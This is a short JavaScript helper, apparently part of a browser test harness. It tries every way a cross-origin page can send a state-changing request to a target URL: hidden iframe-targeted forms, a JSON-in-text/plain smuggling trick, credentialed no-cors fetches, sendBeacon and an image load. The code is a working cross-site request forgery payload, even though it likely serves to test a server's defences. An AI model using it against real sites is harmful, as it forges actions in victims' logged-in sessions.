// Sends one unsafe request to `url` in each way that a page of another origin has, and returns how many ways it tried
async ({method, url, body}) => {
  const pause = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
  const ways = [];
  const attempt = send => ways.push(Promise.race([send().catch(() => {}), pause(2000)]));

  for (const type of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
    attempt(async () => {
      const frame = document.createElement('iframe');
      frame.name = crypto.randomUUID?.() ?? String(Math.random());
      document.body.append(frame);
      await pause(0);
      const form = document.createElement('form');
      Object.assign(form, {method: 'post', action: url, enctype: type, target: frame.name});
      const add = (name, value) => {
        const field = document.createElement('input');
        Object.assign(field, {type: 'hidden', name, value});
        form.append(field);
      };
      if (type === 'text/plain') {
        // As text, a form with one field is `name=value`, so JSON with an equals sign in it can be sent
        const key = Object.keys(body).find(name => typeof body[name] === 'string') ?? 'padding';
        const text = JSON.stringify({...body, [key]: (body[key] ?? '') + '='});
        add(text.slice(0, text.lastIndexOf('=')), text.slice(text.lastIndexOf('=') + 1));
      } else {
        for (const [name, value] of Object.entries(body)) add(name, String(value));
      }
      document.body.append(form);
      const loaded = new Promise(resolve => frame.addEventListener('load', resolve));
      form.submit();
      await loaded;
      form.remove();
      frame.remove();
    });
  }
  const text = JSON.stringify(body);
  attempt(() => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', body: text}));
  attempt(() => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include'}));
  attempt(() => fetch(url, {method: 'POST', mode: 'no-cors', body: new URLSearchParams(body), keepalive: true}));
  attempt(() => fetch(url, {method, credentials: 'include', headers: {'Content-Type': 'application/json'}, body: text}));
  attempt(() => fetch(url, {method, referrerPolicy: 'no-referrer'}));
  attempt(async () => navigator.sendBeacon(url, text));
  attempt(async () => navigator.sendBeacon(url, new URLSearchParams(body)));
  attempt(async () => new Promise(resolve => {
    const picture = new Image();
    picture.onload = picture.onerror = resolve;
    picture.src = url;
  }));
  await Promise.all(ways);
  return ways.length;
}
